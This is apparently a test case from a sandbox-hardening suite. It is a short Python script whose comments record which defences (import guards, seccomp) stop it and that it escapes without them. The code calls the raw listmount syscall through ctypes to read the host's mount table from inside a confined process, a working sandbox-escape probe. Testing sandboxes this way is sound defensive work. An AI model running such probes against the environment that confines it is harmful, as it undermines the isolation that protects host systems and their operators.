# attack: /proc and symlink tricks
# stops: guards: __import__ not found
# os: process/seccomp: Operation not permitted
# baseline: -guards => escaped
# listmount (kernel 6.8): the host's mount table, without a path
import ctypes, os, struct
libc = ctypes.CDLL(None, use_errno=True)
request = ctypes.create_string_buffer(struct.pack("<IIQQ", 24, 0, 0xFFFFFFFFFFFFFFFF, 0))  # LSMT_ROOT
ids = (ctypes.c_uint64 * 64)()
n = libc.syscall(ctypes.c_long(458), request, ids, ctypes.c_size_t(64), ctypes.c_long(0))
if n < 0:
    raise OSError(ctypes.get_errno(), "listmount: " + os.strerror(ctypes.get_errno()))
print("ESCAPED:", n, "mounts")
